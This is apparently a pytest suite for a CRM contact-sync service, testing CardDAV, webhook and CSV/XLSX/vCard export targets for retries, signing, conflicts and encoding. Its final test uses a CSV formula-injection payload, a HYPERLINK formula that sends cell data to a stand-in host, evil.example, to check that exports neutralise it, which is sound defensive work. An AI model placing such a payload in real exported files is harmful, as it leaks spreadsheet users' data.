"""Targets against real local servers: Radicale (CardDAV) and a webhook
receiver; office files on disk. No Odoo needed."""

import csv
import hashlib
import hmac
import io
import json
import urllib.request

import pytest
import vobject
from sync_helpers import Radicale, Recorder

from sync_service.config import Secret, TargetConfig
from sync_service.targets.carddav import CardDavTarget, TargetError
from sync_service.targets.files import FileTarget
from sync_service.targets.webhook import WebhookTarget


def customer(partner_id, name, **values):
    return {
        "partner_id": partner_id,
        "uid": f"crm-test-partner-{partner_id}",
        "name": name,
        "is_company": True,
        "email": f"c{partner_id}@example.com",
        "phone": "+972 3 555 0101",
        "city": "תל אביב",
        "write_date": "2026-11-20 10:00:00",
        "content_hash": f"hash-{partner_id}-{values.get('phone', '')}",
        "binding": False,
        **values,
    }


@pytest.fixture(scope="module")
def radicale(tmp_path_factory):
    server = Radicale(tmp_path_factory.mktemp("radicale")).start()
    yield server
    server.stop()


def test_carddav_create_update_conflict_delete(radicale):
    book = radicale.make_address_book("phones")
    target = CardDavTarget(
        TargetConfig(
            name="phones",
            kind="carddav",
            url=book,
            username="test",
            password=Secret("x"),
            max_retries=1,
        )
    )
    hebrew = customer(1, "אלקטרה שירותים בע״מ")
    [created] = target.apply({"upserts": [hebrew], "deletes": []})
    assert created["etag"]
    card = radicale.get(created["href"])
    assert "ORG:אלקטרה שירותים בע״מ" in card
    assert "UID:crm-test-partner-1" in card
    # update with the known ETag
    changed = customer(1, "אלקטרה שירותים בע״מ", phone="+972 3 555 0199")
    changed["binding"] = {"href": created["href"], "etag": created["etag"]}
    [updated] = target.apply({"upserts": [changed], "deletes": []})
    assert updated["etag"] != created["etag"]
    # someone edited the card meanwhile: stale ETag → 412 → re-read, retry once
    stale = customer(1, "אלקטרה", phone="+972 3 555 0111")
    stale["binding"] = {"href": created["href"], "etag": created["etag"]}
    [retried] = target.apply({"upserts": [stale], "deletes": []})
    card = radicale.get(retried["href"])
    assert "0111" in card
    # a card created by an earlier, killed run: If-None-Match fails → retried
    [again] = target.apply({"upserts": [customer(1, "אלקטרה")], "deletes": []})
    assert again["href"] == created["href"]
    results = target.apply({"upserts": [], "deletes": [{"binding_id": 7, **again}]})
    assert results == [{"binding_id": 7, "deleted": True}]
    with pytest.raises(urllib.error.HTTPError):
        radicale.get(again["href"])
    # deleting what is already gone is fine
    assert target.apply({"upserts": [], "deletes": [{"binding_id": 7, **again}]})


def test_carddav_unreachable_is_a_clear_error():
    target = CardDavTarget(
        TargetConfig(
            name="x",
            kind="carddav",
            url="http://127.0.0.1:9/book/",
            max_retries=1,
            timeout=2,
        )
    )
    with pytest.raises(TargetError, match="127.0.0.1:9"):
        target.apply({"upserts": [customer(1, "A")], "deletes": []})


def _webhook(url, retries=3, run_id=None):
    return WebhookTarget(
        TargetConfig(
            name="hook",
            kind="webhook",
            url=url,
            secret=Secret("hook-secret"),
            max_retries=retries,
            timeout=1,
        ),
        sleep=lambda seconds: sleeps.append(seconds),
        run_id=run_id,
    )


sleeps = []


def test_webhook_signs_and_honours_retry_after():
    sleeps.clear()
    receiver = Recorder(
        answers=[(429, {"Retry-After": "3"}, 0), (503, {}, 0), (200, {}, 0)]
    )
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(5, "Northwind")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 5
    assert sleeps == [3.0, 2]
    headers, body, status = receiver.received[-1]
    assert status == 200
    expected = hmac.new(
        b"hook-secret", f"{headers['X-Crm-Timestamp']}.".encode() + body, hashlib.sha256
    ).hexdigest()
    assert headers["X-Crm-Signature"] == expected
    assert headers["Idempotency-Key"].startswith("crm-test-partner-5:")
    assert json.loads(body)["customer"]["city"] == "תל אביב"
    # the retries of one delivery carry the same key
    assert len({h["Idempotency-Key"] for h, _b, _s in receiver.received}) == 1


def test_webhook_gives_up_clearly():
    receiver = Recorder(answers=[(500, {}, 0)] * 3)
    try:
        with pytest.raises(TargetError, match="gave up after 3 attempts"):
            _webhook(receiver.url, retries=2).apply(
                {"upserts": [customer(5, "N")], "deletes": []}
            )
    finally:
        receiver.close()


def test_webhook_timeout_is_retried():
    receiver = Recorder(answers=[(200, {}, 2), (200, {}, 0)])
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(6, "Slow")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 6


@pytest.mark.parametrize("kind", ["csv_file", "xlsx_file", "vcard_file"])
def test_office_files(tmp_path, kind):
    path = tmp_path / f"customers.{kind.split('_')[0]}"
    target = FileTarget(TargetConfig(name="office", kind=kind, path=path))
    target.apply(
        {"upserts": [customer(1, "בית הדפוס"), customer(2, "Acme")], "deletes": []}
    )
    target.finish()
    data = path.read_bytes()
    if kind == "csv_file":
        assert data.startswith(b"\xef\xbb\xbf"), "BOM for Excel"
        rows = list(csv.reader(data.decode("utf-8-sig").splitlines()))
        assert rows[0][0] == "Name" and rows[2][0] == "בית הדפוס"
    elif kind == "xlsx_file":
        import openpyxl

        sheet = openpyxl.load_workbook(path).active
        assert sheet["A3"].value == "בית הדפוס"
    else:
        assert data.decode().count("BEGIN:VCARD") == 2
    assert not list(tmp_path.glob(".customers*")), "no temporary file left"


def _carddav(url, retries=2):
    return CardDavTarget(
        TargetConfig(
            name="phones",
            kind="carddav",
            url=url,
            username="test",
            password=Secret("x"),
            max_retries=retries,
            timeout=2,
        ),
        sleep=sleeps.append,
    )


def test_carddav_one_refused_card_does_not_stop_the_others():
    sleeps.clear()
    server = Recorder(
        answers=[
            (201, {"ETag": '"e1"'}, 0),
            (413, {}, 0),  # this card is too large for the server
            (201, {"ETag": '"e3"'}, 0),
        ]
    )
    try:
        results = _carddav(server.url + "/book/").apply(
            {
                "upserts": [customer(1, "A"), customer(2, "Big"), customer(3, "C")],
                "deletes": [],
            }
        )
    finally:
        server.close()
    assert [r.get("etag") for r in results] == ['"e1"', None, '"e3"']
    assert results[1]["partner_id"] == 2 and "HTTP 413" in results[1]["error"]
    assert [method for method, *_rest in server.requests] == ["PUT"] * 3
    assert sleeps == [], "a refusal is not retried"


def test_carddav_retries_5xx_and_429_honouring_retry_after():
    sleeps.clear()
    server = Recorder(
        answers=[
            (503, {"Retry-After": "7"}, 0),
            (429, {"Retry-After": "2"}, 0),
            (500, {}, 0),
            (201, {"ETag": '"e1"'}, 0),
        ]
    )
    try:
        [result] = _carddav(server.url + "/book/", retries=3).apply(
            {"upserts": [customer(1, "A")], "deletes": []}
        )
    finally:
        server.close()
    assert result["etag"] == '"e1"'
    assert sleeps == [7.0, 2.0, 4]
    assert len(server.requests) == 4


def test_carddav_server_down_fails_the_whole_target():
    sleeps.clear()
    server = Recorder(answers=[(503, {}, 0)] * 3)
    try:
        with pytest.raises(TargetError, match="gave up after 3 attempts"):
            _carddav(server.url + "/book/").apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        server.close()
    assert sleeps == [1, 2]


@pytest.mark.parametrize("status", [401, 403])
def test_carddav_refused_credentials_fail_the_whole_target(status):
    server = Recorder(answers=[(status, {}, 0)])
    try:
        with pytest.raises(TargetError, match=f"HTTP {status}.*credentials"):
            _carddav(server.url + "/book/").apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        server.close()
    assert len(server.requests) == 1, "no other card tried"


def test_carddav_refused_delete_is_that_customers_error():
    server = Recorder(answers=[(409, {}, 0), (204, {}, 0)])
    try:
        results = _carddav(server.url + "/book/").apply(
            {
                "upserts": [],
                "deletes": [
                    {
                        "binding_id": 4,
                        "href": "/book/a.vcf",
                        "etag": '"x"',
                        "uid": "crm-abc-partner-41",
                    },
                    {"binding_id": 5, "href": "/book/b.vcf", "etag": '"y"'},
                ],
            }
        )
    finally:
        server.close()
    assert results[0]["partner_id"] == 41 and "HTTP 409" in results[0]["error"]
    assert results[1] == {"binding_id": 5, "deleted": True}


def test_vcard_note_with_crlf_stays_one_card(radicale):
    book = radicale.make_address_book("notes")
    target = CardDavTarget(
        TargetConfig(name="notes", kind="carddav", url=book, username="test")
    )
    windows_note = "Call before noon.\r\nAsk for Dana\rnot Dan\n\nend"
    [result] = target.apply(
        {"upserts": [customer(9, "Notes Ltd", comment=windows_note)], "deletes": []}
    )
    text = radicale.get(result["href"])
    card = vobject.readOne(text)
    assert card.note.value == "Call before noon.\nAsk for Dana\nnot Dan\n\nend"
    assert card.fn.value == "Notes Ltd"
    assert "\r" not in text.replace("\r\n", "")


def test_webhook_refused_customer_is_an_error_entry_the_others_go_on():
    receiver = Recorder(answers=[(422, {}, 0), (200, {}, 0)])
    try:
        results = _webhook(receiver.url, run_id=3).apply(
            {"upserts": [customer(1, "Bad"), customer(2, "Good")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 1 and "HTTP 422" in results[0]["error"]
    assert results[1]["partner_id"] == 2 and "error" not in results[1]
    assert len(receiver.received) == 2


@pytest.mark.parametrize("status", [401, 403])
def test_webhook_refused_secret_fails_the_whole_target(status):
    receiver = Recorder(answers=[(status, {}, 0)])
    try:
        with pytest.raises(TargetError, match=f"HTTP {status}"):
            _webhook(receiver.url).apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        receiver.close()
    assert len(receiver.received) == 1


def test_webhook_idempotency_key_is_new_for_every_change():
    """A -> B -> A -> B, deleted, back, deleted: every change a new key, so a
    receiver that drops seen keys drops none of them; a killed run's change
    sent again keeps its key."""
    receiver = Recorder()
    keys, binding = [], False
    try:
        for run_id, (change, content) in enumerate(
            [
                ("upsert", "A"),
                ("upsert", "B"),
                ("upsert", "A"),
                ("upsert", "B"),
                ("delete", None),
                ("upsert", "B"),
                ("delete", None),
            ],
            start=1,
        ):
            target = _webhook(receiver.url, run_id=run_id)
            if change == "upsert":
                item = customer(1, "A", content_hash=content, binding=binding)
                [result] = target.apply({"upserts": [item], "deletes": []})
                binding = {"binding_id": 1, "etag": result["etag"], "uid": item["uid"]}
            else:
                target.apply({"upserts": [], "deletes": [binding]})
                binding = False
            keys.append(receiver.received[-1][0]["Idempotency-Key"])
        # a run killed after its POST, before Odoo recorded it: sent again
        before = {"binding_id": 1, "etag": keys[0], "uid": "crm-test-partner-1"}
        item = customer(1, "A", content_hash="B", binding=before)
        _webhook(receiver.url, run_id=99).apply({"upserts": [item], "deletes": []})
    finally:
        receiver.close()
    assert len(set(keys)) == len(keys), keys
    assert receiver.received[-1][0]["Idempotency-Key"] == keys[1]
    assert all(key.startswith("crm-test-partner-1:") for key in keys)


def test_csv_and_xlsx_never_turn_a_name_into_a_formula(tmp_path):
    hostile = customer(
        1,
        '=HYPERLINK("http://evil.example/?"&A2,"Click")',
        phone="+972 3 555 0101",
        email="@SUM(1+1)",
        city="-2+3",
        street="\tTab Street",
        zip="\r7",
        company_name="Acme = Best",
    )
    csv_path, xlsx_path = tmp_path / "customers.csv", tmp_path / "customers.xlsx"
    for kind, path in (("csv_file", csv_path), ("xlsx_file", xlsx_path)):
        target = FileTarget(TargetConfig(name="office", kind=kind, path=path))
        target.apply({"upserts": [hostile], "deletes": []})
        target.finish()
    header, row = csv.reader(
        io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")
    )
    cells = dict(zip(header, row, strict=True))
    assert cells["Name"] == "'" + hostile["name"]
    assert cells["Phone"] == "'+972 3 555 0101"
    assert cells["Email"] == "'@SUM(1+1)"
    assert cells["City"] == "'-2+3"
    assert cells["Street"] == "'\tTab Street"
    assert cells["ZIP"] == "'\r7"
    assert cells["Company"] == "Acme = Best", "an = inside is no formula"
    import openpyxl

    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet["A2"].value == hostile["name"]
    assert sheet["A2"].data_type == "s", "text, not a formula"
    assert sheet["D2"].value == "+972 3 555 0101"
